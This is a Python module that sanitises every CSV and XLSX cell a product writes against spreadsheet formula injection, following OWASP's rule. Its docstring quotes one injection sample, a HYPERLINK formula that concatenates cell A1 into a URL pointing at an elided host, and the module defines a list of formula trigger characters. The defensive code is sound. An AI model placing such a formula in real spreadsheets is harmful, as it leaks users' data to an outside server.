"""Spreadsheet cells that run nothing: every CSV and XLSX the product writes goes through here.

A directory record named `=HYPERLINK("http://…"&A1;"x")`, received from a partner's file or a colleague's
sync, must not become a live formula in the coordinator's Excel or LibreOffice. OWASP's CSV-injection
rule: a text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return (after any leading space,
line break or invisible character, and in any compatibility form such as « ＝ » or « ﹦ ») is written as text. In a
CSV it gets a leading apostrophe (`'+33 6 12 34 56 78` stays readable and is shown as typed); in an XLSX
it is stored as a string cell, never as a formula. Plain numbers (`-3`, `12,5`) stay numbers.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import IO, Any

DECLENCHEURS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
NOMBRE = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _debut(valeur: str) -> str:
    """The cell as a spreadsheet may read its start: leading spaces, line breaks and invisible characters
    skipped, the first character in its compatibility form (« ﹦ », « ＝ » are « = »)."""
    start = 0
    while start < len(valeur) and unicodedata.category(valeur[start]) in ("Zs", "Cc", "Cf", "Zl", "Zp"):
        start += 1
    rest = valeur[start:]
    return unicodedata.normalize("NFKC", rest[:1]) + rest[1:]


def neutralise(valeur: Any) -> Any:
    """The value as a CSV cell that no spreadsheet evaluates."""
    if not isinstance(valeur, str) or NOMBRE.fullmatch(valeur.strip()):
        return valeur
    if valeur.startswith(DECLENCHEURS) or _debut(valeur).startswith(DECLENCHEURS):
        return "'" + valeur
    return valeur


class EcrivainCsv:
    """csv.writer for French Excel (`;`), every cell neutralised."""

    def __init__(self, handle: IO[str]) -> None:
        self._writer = csv.writer(handle, delimiter=";", quoting=csv.QUOTE_MINIMAL)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(v) for v in row])


def ecrivain_csv(handle: IO[str]) -> EcrivainCsv:
    return EcrivainCsv(handle)


def ajoute_ligne_xlsx(sheet: Any, row: Iterable[Any]) -> None:
    """openpyxl's `append`, with every text cell kept a string (openpyxl makes "=…" a formula)."""
    values = list(row)
    sheet.append(values)
    for cell, value in zip(sheet[sheet.max_row], values, strict=False):
        if isinstance(value, str):
            cell.value = value
            cell.data_type = "s"
